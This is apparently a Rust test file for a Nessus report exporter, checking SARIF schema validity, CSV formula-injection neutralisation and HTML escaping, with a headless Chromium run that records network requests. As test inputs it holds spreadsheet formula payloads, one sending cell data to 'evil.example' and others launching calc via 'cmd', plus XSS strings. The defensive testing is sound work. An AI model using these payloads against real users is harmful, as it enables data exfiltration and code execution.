//! Report exports: SARIF validated against the official 2.1.0 JSON schema, CSV cells
//! neutralised against formula injection, the HTML report escaped, rendered in headless
//! Chromium with no request but the file itself, and the one-document caps.

use std::collections::BTreeSet;
use std::io::Cursor;
use std::path::{Path, PathBuf};
use std::process::Command;

use nessus_schema::{ExportFormat, Query, QueryParams, REPORT_MAX_FINDINGS, SARIF_VERSION, Store};
use serde_json::Value;

use crate::store::ingest;

fn query(filters: Option<Value>, sort: Option<&str>) -> Query {
    Query::from_params(&QueryParams {
        schema_profile: Some("brief".to_owned()),
        filters,
        sort: sort.map(str::to_owned),
        ..QueryParams::default()
    })
    .expect("query")
}

/// The whole document of a report format, through the plan and part 1 as a client does.
fn document(store: &Store, q: &Query, format: ExportFormat) -> (u64, String) {
    let plan = store.export_plan(q, format).expect("plan");
    assert_eq!(plan.parts, 1, "{format:?} is one document");
    let body = store
        .export_part(q, format, plan.part_size, 1)
        .expect("part 1");
    assert_eq!(body.len() as u64, plan.largest_part_bytes);
    assert!(store.export_part(q, format, plan.part_size, 2).is_err());
    (plan.findings, String::from_utf8(body).expect("utf-8"))
}

fn sarif_validator() -> jsonschema::Validator {
    let path = concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/tests/data/sarif-schema-2.1.0.json"
    );
    let schema: Value =
        serde_json::from_str(&std::fs::read_to_string(path).expect("schema file")).expect("json");
    // One known defect of the published schema: the `language` pattern (of `run` and
    // `toolComponent`) ends in a stray `]` (`...{2}]?$`), which the draft-04
    // meta-schema's "regex" format rejects, so the schema does not compile as
    // published. It is repaired here, in memory, to the pattern of the SARIF TC's
    // errata; the committed file stays as published, and this crate never writes
    // `language`.
    fn repair(v: &mut Value, repaired: &mut usize) {
        match v {
            Value::Object(m) => {
                for (k, v) in m.iter_mut() {
                    if k == "pattern" && v == "^[a-zA-Z]{2}|^[a-zA-Z]{2}-[a-zA-Z]{2}]?$" {
                        *v = Value::from("^[a-zA-Z]{2}$|^[a-zA-Z]{2}-[a-zA-Z]{2}$");
                        *repaired += 1;
                    } else {
                        repair(v, repaired);
                    }
                }
            }
            Value::Array(a) => a.iter_mut().for_each(|v| repair(v, repaired)),
            _ => {}
        }
    }
    let mut schema = schema;
    let mut repaired = 0;
    repair(&mut schema, &mut repaired);
    assert_eq!(repaired, 2, "the schema file changed: revisit this repair");
    jsonschema::draft4::options()
        .should_validate_formats(true)
        .build(&schema)
        .expect("the SARIF schema compiles")
}

/// Corpus files and filters, with the findings each export must hold (from the files'
/// MANIFEST counts).
const SARIF_CASES: [(&str, &str, u64); 5] = [
    ("libnessus__nessus_report_local_3.nessus", "null", 106),
    (
        "libnessus__nessus_report_local_3.nessus",
        r#"{"severity": ">=2"}"#,
        25,
    ),
    ("eafonin-nessus-api__sample_scan.nessus", "null", 40),
    ("defectdojo__nessus_with_cvssv3.nessus", "null", 0),
    ("defectdojo__nessus_was_no_vuln.xml", "null", 0),
];

#[test]
fn sarif_exports_validate_against_the_2_1_0_schema() {
    let validator = sarif_validator();
    let dir = tempfile::tempdir().expect("tempdir");
    for (i, (file, filters, want)) in SARIF_CASES.into_iter().enumerate() {
        let case_dir = dir.path().join(i.to_string());
        std::fs::create_dir_all(&case_dir).expect("mkdir");
        let store = ingest(file, &case_dir);
        let filters: Value = serde_json::from_str(filters).expect("filters");
        let q = query((!filters.is_null()).then_some(filters), None);
        let (findings, body) = document(&store, &q, ExportFormat::Sarif);
        // Files whose count is not pinned above (0): the page engine's count is the truth.
        let expected = if want == 0 {
            store.findings().expect("findings").count() as u64
        } else {
            want
        };
        assert_eq!(findings, expected, "{file}");
        let log: Value = serde_json::from_str(&body).expect("SARIF is JSON");
        let errors: Vec<String> = validator
            .iter_errors(&log)
            .map(|e| format!("{} at {}", e, e.instance_path()))
            .take(5)
            .collect();
        assert!(errors.is_empty(), "{file}: {errors:#?}");
        // The control: the same log broken in ways the schema forbids is refused.
        if let Some(first) = log["runs"][0]["results"].get(0) {
            for broken in [
                serde_json::json!({ "level": "fatal" }),
                serde_json::json!({ "message": { "txt": "no text" } }),
                serde_json::json!({ "locations": [{ "physicalLocation": {} }] }),
            ] {
                let mut bad = log.clone();
                let mut result = first.clone();
                for (k, v) in broken.as_object().unwrap() {
                    result[k] = v.clone();
                }
                bad["runs"][0]["results"][0] = result;
                assert!(
                    !validator.is_valid(&bad),
                    "{file}: {broken} passed the schema"
                );
            }
        }

        assert_eq!(log["version"], SARIF_VERSION);
        let runs = log["runs"].as_array().expect("runs");
        assert_eq!(runs.len(), 1, "one run");
        let driver = &runs[0]["tool"]["driver"];
        assert_eq!(driver["name"], "Nessus");
        let rules = driver["rules"].as_array().expect("rules");
        let results = runs[0]["results"].as_array().expect("results");
        assert_eq!(
            results.len() as u64,
            findings,
            "{file}: one result per finding"
        );
        let rule_ids: Vec<&str> = rules.iter().map(|r| r["id"].as_str().unwrap()).collect();
        let distinct: BTreeSet<&str> = rule_ids.iter().copied().collect();
        assert_eq!(
            distinct.len(),
            rule_ids.len(),
            "{file}: one rule per plugin"
        );
        for r in results {
            let id = r["ruleId"].as_str().expect("ruleId");
            let index = r["ruleIndex"].as_u64().expect("ruleIndex") as usize;
            assert_eq!(rule_ids[index], id);
            assert!(
                ["error", "warning", "note", "none"].contains(&r["level"].as_str().unwrap()),
                "{r}"
            );
            let loc = &r["locations"][0];
            let uri = loc["physicalLocation"]["artifactLocation"]["uri"]
                .as_str()
                .expect("a physical location");
            assert!(uri.starts_with("host/"), "{uri}");
            let port = r["properties"]["port"].as_u64().expect("port");
            let protocol = r["properties"]["protocol"].as_str().expect("protocol");
            let fp = r["partialFingerprints"]["nessusFinding/v1"]
                .as_str()
                .expect("fingerprint");
            assert_eq!(
                fp,
                format!("{}|{id}|{port}/{protocol}", &uri["host/".len()..]),
                "asset|plugin|port/protocol, nothing else"
            );
        }
    }
}

/// Severity 0..=4 maps to SARIF levels, critical and high being errors.
#[test]
fn sarif_levels_follow_severity() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = ingest("libnessus__nessus_report_local_3.nessus", dir.path());
    for (severity, level) in [
        (4, "error"),
        (3, "error"),
        (2, "warning"),
        (1, "note"),
        (0, "none"),
    ] {
        let q = query(Some(serde_json::json!({ "severity": severity })), None);
        let (_, body) = document(&store, &q, ExportFormat::Sarif);
        let log: Value = serde_json::from_str(&body).unwrap();
        let results = log["runs"][0]["results"].as_array().unwrap();
        assert!(!results.is_empty(), "severity {severity}");
        assert!(
            results.iter().all(|r| r["level"] == level),
            "severity {severity}"
        );
    }
}

/// Escapes the XML text of a hostile value.
fn xml(s: &str) -> String {
    s.replace('&', "&amp;")
        .replace('<', "&lt;")
        .replace('>', "&gt;")
        .replace('"', "&quot;")
        .replace('\r', "&#13;")
        .replace('\t', "&#9;")
}

/// A .nessus document: one host, one finding per `(plugin_name, plugin_output)`.
fn nessus(report: &str, items: &[(&str, &str)]) -> String {
    let mut s = format!(
        "<?xml version=\"1.0\" ?><NessusClientData_v2><Report name=\"{}\">\
         <ReportHost name=\"10.9.8.7\"><HostProperties><tag name=\"host-ip\">10.9.8.7</tag>\
         </HostProperties>",
        xml(report)
    );
    for (i, (name, output)) in items.iter().enumerate() {
        s.push_str(&format!(
            "<ReportItem port=\"{}\" svc_name=\"www\" protocol=\"tcp\" severity=\"{}\" \
             pluginID=\"{}\" pluginName=\"{}\" pluginFamily=\"Web Servers\">\
             <synopsis>{}</synopsis><plugin_output>{}</plugin_output></ReportItem>",
            8000 + i,
            i % 5,
            90000 + i,
            xml(name),
            xml(name),
            xml(output)
        ));
    }
    s.push_str("</ReportHost></Report></NessusClientData_v2>");
    s
}

fn ingest_text(text: &str, dir: &Path) -> Store {
    Store::ingest(Cursor::new(text.as_bytes().to_vec()), &dir.join("store")).expect("ingest")
}

/// Splits an RFC 4180 body into rows of cells (quotes and CRLF inside quotes honoured).
fn parse_csv(body: &str) -> Vec<Vec<String>> {
    let (mut rows, mut row, mut cell) = (Vec::new(), Vec::new(), String::new());
    let mut chars = body.chars().peekable();
    let mut quoted = false;
    while let Some(c) = chars.next() {
        match (quoted, c) {
            (true, '"') if chars.peek() == Some(&'"') => {
                chars.next();
                cell.push('"');
            }
            (true, '"') => quoted = false,
            (true, c) => cell.push(c),
            (false, '"') => quoted = true,
            (false, ',') => row.push(std::mem::take(&mut cell)),
            (false, '\r') if chars.peek() == Some(&'\n') => {
                chars.next();
                row.push(std::mem::take(&mut cell));
                rows.push(std::mem::take(&mut row));
            }
            (false, c) => cell.push(c),
        }
    }
    rows
}

/// Cells a spreadsheet would run as formulas, each put in a name and an output.
const HOSTILE_CELLS: [&str; 8] = [
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "=1,2\"3",
    "-",
];

#[test]
fn csv_neutralises_hostile_cells() {
    let dir = tempfile::tempdir().expect("tempdir");
    let items: Vec<(&str, &str)> = HOSTILE_CELLS.iter().map(|c| (*c, *c)).collect();
    let store = ingest_text(&nessus("hostile", &items), dir.path());
    let q = Query::from_params(&QueryParams {
        custom_fields: Some(vec![
            "plugin_id".into(),
            "plugin_name".into(),
            "plugin_output".into(),
            "port".into(),
        ]),
        sort: Some("port".into()),
        ..QueryParams::default()
    })
    .expect("query");
    let plan = store.export_plan(&q, ExportFormat::Csv).expect("plan");
    let body = store
        .export_part(&q, ExportFormat::Csv, plan.part_size, 1)
        .expect("part");
    let rows = parse_csv(&String::from_utf8(body).expect("utf-8"));
    assert_eq!(
        rows[0],
        ["plugin_id", "plugin_name", "plugin_output", "port"]
    );
    assert_eq!(rows.len(), HOSTILE_CELLS.len() + 1);
    for (row, hostile) in rows[1..].iter().zip(HOSTILE_CELLS) {
        // The parser keeps the text as written (its whitespace trimmed, as every .nessus
        // text is); the CSV cell is that text behind one apostrophe.
        let written = store
            .findings()
            .expect("findings")
            .find(|f| f.as_ref().is_ok_and(|f| f.plugin_id == row[0].parse().ok()))
            .and_then(Result::ok)
            .expect("the finding");
        for (cell, field) in [(&row[1], "plugin_name"), (&row[2], "plugin_output")] {
            let value = match written.get(field) {
                Some(nessus_schema::ValueRef::Text(s)) => s.to_owned(),
                other => panic!("{field} of {hostile:?}: {other:?}"),
            };
            let risky = value.starts_with(['=', '+', '-', '@', '\t', '\r']);
            if risky {
                assert_eq!(*cell, format!("'{value}"), "{field} of {hostile:?}");
            } else {
                assert_eq!(*cell, value, "{field} of {hostile:?}");
            }
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{field} of {hostile:?} reaches a spreadsheet as {cell:?}"
            );
        }
        // Numbers are ours: never prefixed.
        assert!(row[3].parse::<u32>().is_ok(), "{row:?}");
    }
}

/// The values an attacker controls on the scanned host, and what must not appear raw.
const HTML_ATTACKS: [(&str, &str); 3] = [
    ("<script>document.title='pwned'</script>", "<script"),
    ("\"><img src=x onerror=\"document.title='pwned'\">", "<img"),
    (
        "<a href=\"http://evil.example/\">x</a><style>body{display:none}</style>",
        "<a href",
    ),
];

fn hostile_html_store(dir: &Path) -> Store {
    let items: Vec<(&str, &str)> = HTML_ATTACKS
        .iter()
        .map(|(attack, _)| (*attack, *attack))
        .collect();
    ingest_text(&nessus("Report <b>name</b> & \"quotes\"", &items), dir)
}

#[test]
fn html_report_escapes_everything_from_the_scan() {
    let dir = tempfile::tempdir().expect("tempdir");
    let store = hostile_html_store(dir.path());
    let (findings, html) = document(&store, &query(None, None), ExportFormat::Html);
    assert_eq!(findings, HTML_ATTACKS.len() as u64);
    for (attack, raw) in HTML_ATTACKS {
        assert!(!html.contains(raw), "{raw} reached the page raw");
        let escaped = attack
            .replace('&', "&amp;")
            .replace('<', "&lt;")
            .replace('>', "&gt;")
            .replace('"', "&quot;")
            .replace('\'', "&#39;");
        assert!(html.contains(&escaped), "{attack} is not shown as text");
    }
    assert!(!html.contains("<b>name"), "the report name is escaped");
    // Self-contained: only these elements (no script, link, img, iframe, a, ...), no
    // CSS that loads anything, and the CSP forbids loading one anyway.
    const ELEMENTS: [&str; 21] = [
        "!DOCTYPE", "html", "head", "meta", "title", "style", "body", "h1", "h2", "p", "table",
        "tr", "th", "td", "span", "div", "details", "summary", "pre", "svg", "text",
    ];
    for tag in html.split('<').skip(1) {
        let name: String = tag
            .chars()
            .take_while(|c| c.is_ascii_alphanumeric() || *c == '!')
            .collect();
        if name.is_empty() || tag.starts_with('/') {
            continue;
        }
        assert!(
            ELEMENTS.contains(&name.as_str()) || name == "rect",
            "element <{name}> in the report"
        );
    }
    for banned in ["url(", "@import"] {
        assert!(!html.contains(banned), "{banned}");
    }
    assert!(html.contains("default-src 'none'"));
    assert!(html.contains("<svg"), "the severity chart");
}

#[test]
fn reports_over_the_cap_are_refused_naming_filters() {
    let dir = tempfile::tempdir().expect("tempdir");
    let n = REPORT_MAX_FINDINGS as usize + 1;
    let names: Vec<String> = (0..n).map(|i| format!("finding {i}")).collect();
    let items: Vec<(&str, &str)> = names.iter().map(|s| (s.as_str(), "out")).collect();
    let store = ingest_text(&nessus("big", &items), dir.path());
    for format in [ExportFormat::Sarif, ExportFormat::Html] {
        let err = store
            .export_plan(&query(None, None), format)
            .expect_err("over the cap")
            .to_string();
        assert!(
            err.contains("filters") && err.contains(&REPORT_MAX_FINDINGS.to_string()),
            "{err}"
        );
        // The same export narrowed by a filter is served.
        let q = query(Some(serde_json::json!({ "severity": 4 })), None);
        let (findings, _) = document(&store, &q, format);
        assert_eq!(findings, (0..n).filter(|i| i % 5 == 4).count() as u64);
    }
}

/// Headless Chromium (Debian's `chromium`), or a panic that says how to install it.
fn chromium() -> PathBuf {
    let path = PathBuf::from("/usr/bin/chromium");
    assert!(
        path.is_file(),
        "the HTML report test renders the page in headless Chromium: install it with \
         `apt-get install -y chromium` (.ci/run does)"
    );
    path
}

/// The flags that keep Chromium from its own background traffic, so the netlog holds
/// only what the page asked for.
const QUIET: [&str; 12] = [
    "--headless",
    "--no-sandbox",
    "--disable-gpu",
    "--no-first-run",
    "--no-default-browser-check",
    "--disable-background-networking",
    "--disable-component-update",
    "--disable-sync",
    "--disable-default-apps",
    "--disable-extensions",
    "--metrics-recording-only",
    "--hide-scrollbars",
];

fn run_chromium(profile: &Path, args: &[String]) -> std::process::Output {
    let out = Command::new(chromium())
        .args(QUIET)
        .arg(format!("--user-data-dir={}", profile.display()))
        .args(args)
        .output()
        .expect("chromium runs");
    assert!(
        out.status.success(),
        "chromium {args:?}: {}",
        String::from_utf8_lossy(&out.stderr)
    );
    out
}

/// The URLs of the requests a netlog shows made for the page: a request job whose
/// network isolation key is the page's site (`file://`) or that has an initiator.
/// Chromium's own background traffic (update checks, sign-in) has neither, whatever
/// the flags, and is not the page's doing.
fn page_requests(netlog: &Path) -> BTreeSet<String> {
    let text = std::fs::read_to_string(netlog).expect("netlog written");
    let events: Vec<Value> = match serde_json::from_str::<Value>(&text) {
        Ok(v) => v["events"].as_array().cloned().unwrap_or_default(),
        // Chromium may stop before closing the JSON: read the events line by line.
        Err(_) => text
            .lines()
            .filter_map(|l| serde_json::from_str(l.trim().trim_end_matches(',')).ok())
            .collect(),
    };
    let mut urls = BTreeSet::new();
    for event in events {
        let p = &event["params"];
        let (Some(url), Some(nik)) = (p["url"].as_str(), p["network_isolation_key"].as_str())
        else {
            continue;
        };
        let initiated = p["initiator"]
            .as_str()
            .is_some_and(|i| i != "not an origin");
        if nik.contains("file://") || initiated {
            urls.insert(url.to_owned());
        }
    }
    urls
}

/// A page's requests as the netlog of a `--dump-dom` load shows them, and its DOM.
fn load(page: &Path, profile: &Path) -> (BTreeSet<String>, String) {
    let netlog = page.with_extension("netlog.json");
    let _ = std::fs::remove_file(&netlog);
    let dom = run_chromium(
        profile,
        &[
            format!("--log-net-log={}", netlog.display()),
            "--net-log-capture-mode=Everything".to_owned(),
            "--dump-dom".to_owned(),
            format!("file://{}", page.display()),
        ],
    );
    (
        page_requests(&netlog),
        String::from_utf8_lossy(&dom.stdout).into_owned(),
    )
}

#[test]
fn html_report_renders_in_headless_chromium_with_no_request_but_the_file() {
    let browser = chromium();
    let dir = tempfile::tempdir().expect("tempdir");
    let out_dir = PathBuf::from(concat!(
        env!("CARGO_MANIFEST_DIR"),
        "/../target/report-html"
    ));
    std::fs::create_dir_all(&out_dir).expect("target/report-html");
    // Chromium refuses a netlog path with `..` in it.
    let out_dir = out_dir.canonicalize().expect("canonical target dir");

    // The control: a page that does load external assets is caught, so an empty list
    // below means something.
    let leak = out_dir.join("control-leak.html");
    std::fs::write(
        &leak,
        "<!DOCTYPE html><p>leak</p><img src=\"http://leak.invalid/x.png\">\
         <link rel=stylesheet href=\"https://cdn.leak.invalid/a.css\">",
    )
    .expect("control page");
    let (requests, _) = load(&leak, &dir.path().join("profile-control"));
    assert_eq!(
        requests,
        BTreeSet::from([
            "http://leak.invalid/x.png".to_owned(),
            "https://cdn.leak.invalid/a.css".to_owned()
        ]),
        "the netlog shows a page's own requests"
    );

    let cases: [(&str, Store); 2] = [
        (
            "local3",
            ingest("libnessus__nessus_report_local_3.nessus", dir.path()),
        ),
        ("hostile", {
            std::fs::create_dir_all(dir.path().join("h")).expect("mkdir");
            hostile_html_store(&dir.path().join("h"))
        }),
    ];
    for (name, store) in cases {
        let (_, html) = document(
            &store,
            &query(None, Some("severity:desc")),
            ExportFormat::Html,
        );
        let page = out_dir.join(format!("{name}.html"));
        std::fs::write(&page, &html).expect("page written");
        let url = format!("file://{}", page.display());
        let profile = dir.path().join(format!("profile-{name}"));
        let shot = out_dir.join(format!("{name}.png"));
        let _ = std::fs::remove_file(&shot);
        run_chromium(
            &profile,
            &[
                format!("--screenshot={}", shot.display()),
                "--window-size=1280,1600".to_owned(),
                url.clone(),
            ],
        );
        let png = std::fs::read(&shot).expect("screenshot written");
        assert!(
            png.starts_with(b"\x89PNG") && png.len() > 10_000,
            "{}",
            shot.display()
        );

        let (requests, dom) = load(&page, &profile);
        // The browser's own parse of the page: the chart and the hosts are there, and no
        // element an attacker's text could have become.
        assert!(
            dom.contains("<svg") && dom.contains("Findings per severity"),
            "{name}"
        );
        for element in ["<script", "<img", "<iframe", "<a "] {
            assert!(!dom.contains(element), "{name}: the DOM has {element}");
        }
        if name == "hostile" {
            assert!(dom.contains("&lt;script&gt;"), "the script is text");
            assert!(dom.contains("onerror="), "the attribute is text");
            assert!(!dom.contains("pwned</title>"), "no script ran");
        }
        // The file itself is read from disk, not through the network stack: any entry
        // here is a request the page made to something else.
        assert!(
            requests.is_empty(),
            "{name}: the page requested {requests:?}"
        );
    }
    let _ = browser;
}
